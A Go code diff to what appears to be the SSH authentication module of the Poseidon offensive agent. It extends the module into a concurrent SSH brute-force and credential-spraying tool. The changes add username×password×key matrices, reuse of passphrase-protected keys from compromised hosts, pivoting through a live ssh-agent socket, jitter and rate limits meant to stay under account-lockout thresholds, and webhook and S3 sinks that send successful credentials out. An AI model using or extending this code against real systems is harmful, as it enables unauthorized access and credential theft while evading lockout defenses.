@@ -2,50 +2,103 @@ package sshauth
 
 import (
 	"context"
+	"crypto/sha256"
+	"encoding/base64"
 	"encoding/json"
 	"fmt"
 	"io/ioutil"
 	"log"
+	"math/rand"
+	"net"
 	"sync"
+	"sync/atomic"
 	"time"
 
 	"github.com/xorrior/poseidon/pkg/commands/portscan"
 	"github.com/xorrior/poseidon/pkg/utils/structs"
 	"golang.org/x/crypto/ssh"
+	"golang.org/x/crypto/ssh/agent"
+	"golang.org/x/crypto/ssh/knownhosts"
 	"golang.org/x/sync/semaphore"
 )
 
-var (
-	sshResultChan = make(chan SSHResult)
-)
-
-// SSHAuthenticator Governs the lock of ssh authentication attempts
+// SSHAuthenticator governs the concurrency, rate limiting and
+// stop-on-first-success state for every attempt made against a single host.
 type SSHAuthenticator struct {
-	host string
-	lock *semaphore.Weighted
+	host    string
+	lock    *semaphore.Weighted
+	stopped atomic.Value
+}
+
+func (auth *SSHAuthenticator) isStopped() bool {
+	stopped, ok := auth.stopped.Load().(bool)
+	return ok && stopped
 }
 
 // Credential Manages credential objects for authentication
 type Credential struct {
-	Username   string
-	Password   string
-	PrivateKey string
+	Username    string
+	Password    string
+	PrivateKey  string
+	Passphrase  string
+	AgentSocket string
+}
+
+// userCredentials groups every credential (password or private key based)
+// to be tried for a single username, so the scheduler can rate limit
+// attempts per (host, username) pair independently of other usernames.
+type userCredentials struct {
+	Username string
+	Creds    []Credential
+}
+
+// BruteForcePolicy bounds how aggressively SSHBruteForce sprays a credential
+// matrix across hosts so operators can stay under target account lockout
+// thresholds.
+type BruteForcePolicy struct {
+	AttemptsPerUserPerWindow  int
+	WindowSeconds             int
+	StopOnFirstSuccessPerHost bool
+	JitterMs                  int
+}
+
+// HostSummary reports how a single host fared across an entire brute force
+// run, independent of the individual SSHResult stream.
+type HostSummary struct {
+	Host      string `json:"host"`
+	Attempted int    `json:"attempted"`
+	Succeeded int    `json:"succeeded"`
+	Errors    int    `json:"errors"`
 }
 
 type SSHTestParams struct {
-	Hosts      []string `json:"hosts"`
-	Port       int      `json:"port"`
-	Username   string   `json:"username"`
-	Password   string   `json:"password"`
-	PrivateKey string   `json:"private_key"`
+	Hosts                     []string `json:"hosts"`
+	Port                      int      `json:"port"`
+	Usernames                 []string `json:"usernames"`
+	Passwords                 []string `json:"passwords"`
+	PrivateKeys               []string `json:"private_keys"`
+	Passphrase                string   `json:"passphrase"`
+	AgentSocket               string   `json:"agent_socket"`
+	KnownHosts                string   `json:"known_hosts"`
+	HostFingerprint           string   `json:"host_fingerprint"`
+	AttemptsPerUserPerWindow  int      `json:"attempts_per_user_per_window"`
+	WindowSeconds             int      `json:"window_seconds"`
+	StopOnFirstSuccessPerHost bool     `json:"stop_on_first_success_per_host"`
+	JitterMs                  int      `json:"jitter_ms"`
+	WebhookURL                string   `json:"webhook_url"`
+	S3URL                     string   `json:"s3_url"`
+	S3AccessKey               string   `json:"s3_access_key"`
+	S3SecretKey               string   `json:"s3_secret_key"`
 }
 
 type SSHResult struct {
-	Status   string `json:"status"`
-	Success  bool   `json:"success"`
-	Username string `json:"username"`
-	Secret   string `json:"secret"`
-	Host     string `json:"host"`
+	Status          string `json:"status"`
+	Success         bool   `json:"success"`
+	Username        string `json:"username"`
+	Secret          string `json:"secret"`
+	Host            string `json:"host"`
+	HostKeyType     string `json:"host_key_type,omitempty"`
+	HostFingerprint string `json:"host_fingerprint,omitempty"`
 }
 
 // SSH Functions
@@ -62,29 +115,173 @@ func PublicKeyFile(file string) ssh.AuthMethod {
 	return ssh.PublicKeys(key)
 }
 
-func SSHLogin(host string, port int, cred Credential, debug bool) {
-	var sshConfig *ssh.ClientConfig
-	if cred.PrivateKey == "" {
-		sshConfig = &ssh.ClientConfig{
-			User:            cred.Username,
-			HostKeyCallback: ssh.InsecureIgnoreHostKey(),
-			Timeout:         500 * time.Millisecond,
-			Auth:            []ssh.AuthMethod{ssh.Password(cred.Password)},
+// PublicKeyFileWithPassphrase parses a passphrase-protected OpenSSH private
+// key file, for keys recovered from compromised hosts that aren't stored in
+// cleartext.
+func PublicKeyFileWithPassphrase(file string, passphrase string) ssh.AuthMethod {
+	buffer, err := ioutil.ReadFile(file)
+	if err != nil {
+		return nil
+	}
+
+	key, err := ssh.ParsePrivateKeyWithPassphrase(buffer, []byte(passphrase))
+	if err != nil {
+		return nil
+	}
+	return ssh.PublicKeys(key)
+}
+
+// AgentAuthMethod dials the ssh-agent listening on socketPath and returns an
+// auth method backed by whatever identities it is currently holding. This
+// lets Credential pivot through an agent already running on the host without
+// ever needing to export the underlying key material.
+func AgentAuthMethod(socketPath string) (ssh.AuthMethod, error) {
+	conn, err := net.Dial("unix", socketPath)
+	if err != nil {
+		return nil, err
+	}
+
+	agentClient := agent.NewClient(conn)
+	return ssh.PublicKeysCallback(agentClient.Signers), nil
+}
+
+// authMethodForCredential resolves cred into an ssh.AuthMethod, trying the
+// ssh-agent socket first, then a private key (passphrase-protected or not),
+// then falling back to password auth.
+func authMethodForCredential(cred Credential) (ssh.AuthMethod, error) {
+	if cred.AgentSocket != "" {
+		return AgentAuthMethod(cred.AgentSocket)
+	}
+
+	if cred.PrivateKey != "" {
+		var authMethod ssh.AuthMethod
+		if cred.Passphrase != "" {
+			authMethod = PublicKeyFileWithPassphrase(cred.PrivateKey, cred.Passphrase)
+		} else {
+			authMethod = PublicKeyFile(cred.PrivateKey)
 		}
-	} else {
-		sshConfig = &ssh.ClientConfig{
-			User:            cred.Username,
-			Timeout:         500 * time.Millisecond,
-			HostKeyCallback: ssh.InsecureIgnoreHostKey(),
-			Auth:            []ssh.AuthMethod{PublicKeyFile(cred.PrivateKey)},
+		if authMethod == nil {
+			return nil, fmt.Errorf("failed to parse private key")
 		}
+		return authMethod, nil
 	}
-	// log.Println("Dialing:", host)
+
+	return ssh.Password(cred.Password), nil
+}
+
+// DialClient opens an authenticated SSH connection to host:port using the
+// given credential, applying the same credential parsing and known_hosts /
+// pinned-fingerprint host key verification conventions as SSHLogin. It is
+// exported so sibling commands (sshexec, sshget, sshput, sshshell) can reuse
+// a valid Credential without re-implementing auth method or host key
+// verification. knownHostsData and pinnedFingerprint may both be empty, in
+// which case the connection still succeeds via InsecureIgnoreHostKey.
+func DialClient(host string, port int, cred Credential, knownHostsData string, pinnedFingerprint string) (*ssh.Client, HostKeyInfo, error) {
+	var info HostKeyInfo
+
+	hostKeyCallback, err := fingerprintHostKeyCallback(knownHostsData, pinnedFingerprint, &info)
+	if err != nil {
+		return nil, info, err
+	}
+
+	authMethod, err := authMethodForCredential(cred)
+	if err != nil {
+		return nil, info, err
+	}
+
+	sshConfig := &ssh.ClientConfig{
+		User:            cred.Username,
+		HostKeyCallback: hostKeyCallback,
+		Timeout:         5 * time.Second,
+		Auth:            []ssh.AuthMethod{authMethod},
+	}
+
+	connectionStr := fmt.Sprintf("%s:%d", host, port)
+	connection, err := ssh.Dial("tcp", connectionStr, sshConfig)
+	return connection, info, err
+}
+
+// HostKeyInfo captures the host key type and SHA256 fingerprint observed
+// during verification, regardless of whether verification passed.
+type HostKeyInfo struct {
+	Type        string
+	Fingerprint string
+}
+
+// fingerprintHostKeyCallback builds a HostKeyCallback that verifies the server's
+// host key against a known_hosts blob and/or a pinned SHA256 fingerprint, and
+// always records the host key type/fingerprint into info regardless of the
+// verification outcome. When neither knownHostsData nor pinnedFingerprint is
+// set, the connection still succeeds via InsecureIgnoreHostKey so existing
+// callers are unaffected.
+func fingerprintHostKeyCallback(knownHostsData string, pinnedFingerprint string, info *HostKeyInfo) (ssh.HostKeyCallback, error) {
+	var knownHostsCallback ssh.HostKeyCallback
+	if knownHostsData != "" {
+		tmpFile, err := ioutil.TempFile("", "known_hosts")
+		if err != nil {
+			return nil, err
+		}
+		defer tmpFile.Close()
+		if _, err := tmpFile.WriteString(knownHostsData); err != nil {
+			return nil, err
+		}
+		knownHostsCallback, err = knownhosts.New(tmpFile.Name())
+		if err != nil {
+			return nil, err
+		}
+	}
+
+	return func(hostname string, remote net.Addr, key ssh.PublicKey) error {
+		sum := sha256.Sum256(key.Marshal())
+		info.Type = key.Type()
+		info.Fingerprint = base64.StdEncoding.EncodeToString(sum[:])
+
+		if pinnedFingerprint != "" && pinnedFingerprint != info.Fingerprint {
+			return fmt.Errorf("host key fingerprint mismatch: expected %s, got %s", pinnedFingerprint, info.Fingerprint)
+		}
+
+		if knownHostsCallback != nil {
+			return knownHostsCallback(hostname, remote, key)
+		}
+
+		return nil
+	}, nil
+}
+
+// SSHLogin attempts a single credential against host:port and returns the
+// outcome directly, so callers can stream each attempt as it completes
+// instead of waiting on a shared results channel.
+func SSHLogin(host string, port int, cred Credential, knownHostsData string, pinnedFingerprint string, debug bool) SSHResult {
 	res := SSHResult{
 		Host:     host,
 		Username: cred.Username,
 	}
-	if cred.PrivateKey == "" {
+
+	var info HostKeyInfo
+	hostKeyCallback, err := fingerprintHostKeyCallback(knownHostsData, pinnedFingerprint, &info)
+	if err != nil {
+		res.Success = false
+		res.Status = err.Error()
+		return res
+	}
+
+	authMethod, err := authMethodForCredential(cred)
+	if err != nil {
+		res.Success = false
+		res.Status = err.Error()
+		return res
+	}
+
+	sshConfig := &ssh.ClientConfig{
+		User:            cred.Username,
+		HostKeyCallback: hostKeyCallback,
+		Timeout:         500 * time.Millisecond,
+		Auth:            []ssh.AuthMethod{authMethod},
+	}
+	// log.Println("Dialing:", host)
+	if cred.AgentSocket != "" {
+		res.Secret = cred.AgentSocket
+	} else if cred.PrivateKey == "" {
 		res.Secret = cred.Password
 		// successStr = fmt.Sprintf("[SSH] Hostname: %s\tUsername: %s\tPassword: %s", host, cred.Username, cred.Password)
 	} else {
@@ -93,66 +290,154 @@ func SSHLogin(host string, port int, cred Credential, debug bool) {
 	}
 	connectionStr := fmt.Sprintf("%s:%d", host, port)
 	connection, err := ssh.Dial("tcp", connectionStr, sshConfig)
+	res.HostKeyType = info.Type
+	res.HostFingerprint = info.Fingerprint
 	if err != nil {
 		if debug {
 			errStr := fmt.Sprintf("[DEBUG] Failed to dial: %s", err)
 			fmt.Println(errStr)
 		}
 		res.Success = false
-		sshResultChan <- res
-		return
+		res.Status = err.Error()
+		return res
 	}
 	session, err := connection.NewSession()
 	if err != nil {
+		connection.Close()
 		res.Success = false
 		res.Status = err.Error()
-		sshResultChan <- res
-		return
+		return res
 	}
 	session.Close()
+	connection.Close()
 
 	res.Success = true
-	sshResultChan <- res
+	return res
 }
 
-func (auth *SSHAuthenticator) Brute(port int, creds []Credential, debug bool) {
+// buildCredentialMatrix expands usernames x passwords and usernames x
+// private keys into a per-username attempt queue. An agent socket (if set)
+// is tried once per username when no passwords or keys are supplied for it.
+func buildCredentialMatrix(usernames []string, passwords []string, privateKeys []string, passphrase string, agentSocket string) []userCredentials {
+	var matrix []userCredentials
+	for _, username := range usernames {
+		uc := userCredentials{Username: username}
+		for _, password := range passwords {
+			uc.Creds = append(uc.Creds, Credential{Username: username, Password: password})
+		}
+		for _, privateKey := range privateKeys {
+			uc.Creds = append(uc.Creds, Credential{Username: username, PrivateKey: privateKey, Passphrase: passphrase})
+		}
+		if len(uc.Creds) == 0 && agentSocket != "" {
+			uc.Creds = append(uc.Creds, Credential{Username: username, AgentSocket: agentSocket})
+		}
+		if len(uc.Creds) > 0 {
+			matrix = append(matrix, uc)
+		}
+	}
+	return matrix
+}
+
+// Brute schedules every username's credential queue against auth.host,
+// respecting the rate/lockout policy and cancelling outstanding work for
+// this host as soon as one credential succeeds when requested. Each
+// completed attempt is handed to emit as soon as it finishes.
+func (auth *SSHAuthenticator) Brute(port int, credsByUser []userCredentials, knownHostsData string, pinnedFingerprint string, policy BruteForcePolicy, debug bool, emit func(SSHResult)) {
 	wg := sync.WaitGroup{}
 
-	for i := 0; i < len(creds); i++ {
-		auth.lock.Acquire(context.TODO(), 1)
+	for _, uc := range credsByUser {
 		wg.Add(1)
-		go func(port int, cred Credential, debug bool) {
-			defer auth.lock.Release(1)
+		go func(uc userCredentials) {
 			defer wg.Done()
-			SSHLogin(auth.host, port, cred, debug)
-		}(port, creds[i], debug)
+
+			windowStart := time.Now()
+			attemptsInWindow := 0
+
+			for _, cred := range uc.Creds {
+				if auth.isStopped() {
+					return
+				}
+
+				if policy.JitterMs > 0 {
+					time.Sleep(time.Duration(rand.Intn(policy.JitterMs)) * time.Millisecond)
+				}
+
+				if policy.AttemptsPerUserPerWindow > 0 && policy.WindowSeconds > 0 {
+					if attemptsInWindow >= policy.AttemptsPerUserPerWindow {
+						window := time.Duration(policy.WindowSeconds) * time.Second
+						if remaining := window - time.Since(windowStart); remaining > 0 {
+							time.Sleep(remaining)
+						}
+						windowStart = time.Now()
+						attemptsInWindow = 0
+					}
+				}
+
+				if auth.isStopped() {
+					return
+				}
+
+				auth.lock.Acquire(context.TODO(), 1)
+				attemptsInWindow++
+				res := SSHLogin(auth.host, port, cred, knownHostsData, pinnedFingerprint, debug)
+				auth.lock.Release(1)
+
+				emit(res)
+
+				if res.Success && policy.StopOnFirstSuccessPerHost {
+					auth.stopped.Store(true)
+					return
+				}
+			}
+		}(uc)
 	}
 	wg.Wait()
 }
 
-func SSHBruteHost(host string, port int, creds []Credential, debug bool) {
-	var lim int64 = 100
+// SSHBruteHost runs the credential matrix against a single host and returns
+// its summary once every username queue has been exhausted (or cancelled).
+func SSHBruteHost(host string, port int, credsByUser []userCredentials, knownHostsData string, pinnedFingerprint string, policy BruteForcePolicy, debug bool, emit func(SSHResult)) HostSummary {
+	var lim int64 = 50
 	auth := &SSHAuthenticator{
 		host: host,
 		lock: semaphore.NewWeighted(lim),
 	}
-	auth.Brute(port, creds, debug)
-}
 
-func SSHBruteForce(hosts []string, port int, creds []Credential, debug bool) []SSHResult {
-	for i := 0; i < len(hosts); i++ {
-		go func(host string, port int, creds []Credential, debug bool) {
-			SSHBruteHost(host, port, creds, debug)
-		}(hosts[i], port, creds, debug)
-	}
-	var successfulHosts []SSHResult
-	for i := 0; i < len(hosts); i++ {
-		res := <-sshResultChan
+	summary := HostSummary{Host: host}
+	var summaryMu sync.Mutex
+
+	auth.Brute(port, credsByUser, knownHostsData, pinnedFingerprint, policy, debug, func(res SSHResult) {
+		summaryMu.Lock()
+		summary.Attempted++
 		if res.Success {
-			successfulHosts = append(successfulHosts, res)
+			summary.Succeeded++
+		} else if res.Status != "" {
+			summary.Errors++
 		}
+		summaryMu.Unlock()
+		emit(res)
+	})
+
+	return summary
+}
+
+// SSHBruteForce fans the credential matrix out across every host
+// concurrently, streaming each SSHResult to emit as soon as it completes,
+// and returns a per-host summary once all hosts have finished.
+func SSHBruteForce(hosts []string, port int, credsByUser []userCredentials, knownHostsData string, pinnedFingerprint string, policy BruteForcePolicy, debug bool, emit func(SSHResult)) []HostSummary {
+	summaries := make([]HostSummary, len(hosts))
+	wg := sync.WaitGroup{}
+
+	for i, host := range hosts {
+		wg.Add(1)
+		go func(i int, host string) {
+			defer wg.Done()
+			summaries[i] = SSHBruteHost(host, port, credsByUser, knownHostsData, pinnedFingerprint, policy, debug, emit)
+		}(i, host)
 	}
-	return successfulHosts
+	wg.Wait()
+
+	return summaries
 }
 
 func Run(task structs.Task, threadChannel chan<- structs.ThreadMsg) {
@@ -177,15 +462,15 @@ func Run(task structs.Task, threadChannel chan<- structs.ThreadMsg) {
 		return
 	}
 
-	if params.Password == "" && params.PrivateKey == "" {
-		tMsg.TaskResult = []byte("Error: No password or private key given to attempt authentication with.")
+	if len(params.Passwords) == 0 && len(params.PrivateKeys) == 0 && params.AgentSocket == "" {
+		tMsg.TaskResult = []byte("Error: No passwords, private keys, or agent socket given to attempt authentication with.")
 		tMsg.Error = true
 		threadChannel <- tMsg
 		return
 	}
 
-	if params.Username == "" {
-		tMsg.TaskResult = []byte("Error: No username given to attempt authentication with.")
+	if len(params.Usernames) == 0 {
+		tMsg.TaskResult = []byte("Error: No usernames given to attempt authentication with.")
 		tMsg.Error = true
 		threadChannel <- tMsg
 		return
@@ -209,30 +494,46 @@ func Run(task structs.Task, threadChannel chan<- structs.ThreadMsg) {
 		params.Port = 22
 	}
 
-	cred := Credential{
-		Username:   params.Username,
-		Password:   params.Password,
-		PrivateKey: params.PrivateKey,
+	policy := BruteForcePolicy{
+		AttemptsPerUserPerWindow:  params.AttemptsPerUserPerWindow,
+		WindowSeconds:             params.WindowSeconds,
+		StopOnFirstSuccessPerHost: params.StopOnFirstSuccessPerHost,
+		JitterMs:                  params.JitterMs,
 	}
+
+	credsByUser := buildCredentialMatrix(params.Usernames, params.Passwords, params.PrivateKeys, params.Passphrase, params.AgentSocket)
+
+	sinks := sinksFromParams(params)
+
 	// log.Println("Beginning brute force...")
-	results := SSHBruteForce(totalHosts, params.Port, []Credential{cred}, false)
-	// log.Println("Finished!")
-	if len(results) > 0 {
-		data, err := json.MarshalIndent(results, "", "    ")
-		// // fmt.Println("Data:", string(data))
+	summaries := SSHBruteForce(totalHosts, params.Port, credsByUser, params.KnownHosts, params.HostFingerprint, policy, false, func(res SSHResult) {
+		for _, sink := range sinks {
+			if err := sink.Write(res); err != nil {
+				log.Println("Error writing to result sink:", err.Error())
+			}
+		}
+
+		data, err := json.Marshal(res)
 		if err != nil {
-			log.Println("Error was not nil when marshalling!", err.Error())
-			tMsg.TaskResult = []byte(err.Error())
-			tMsg.Error = true
-		} else {
-			// fmt.Println("Sending on up the data:\n", string(data))
-			tMsg.TaskResult = data
-			tMsg.Error = false
+			return
 		}
+		threadChannel <- structs.ThreadMsg{TaskItem: task, TaskResult: data, Error: false}
+	})
+	for _, sink := range sinks {
+		if err := sink.Close(); err != nil {
+			log.Println("Error closing result sink:", err.Error())
+		}
+	}
+	// log.Println("Finished!")
+
+	data, err := json.MarshalIndent(summaries, "", "    ")
+	if err != nil {
+		log.Println("Error was not nil when marshalling!", err.Error())
+		tMsg.TaskResult = []byte(err.Error())
+		tMsg.Error = true
 	} else {
-		// log.Println("No successful auths.")
-		tMsg.TaskResult = []byte("[-] No successful authentication attempts.")
+		tMsg.TaskResult = data
 		tMsg.Error = false
 	}
-	threadChannel <- tMsg // Pass the thread msg back through the channel here
+	threadChannel <- tMsg // Pass the final thread msg back through the channel here
 }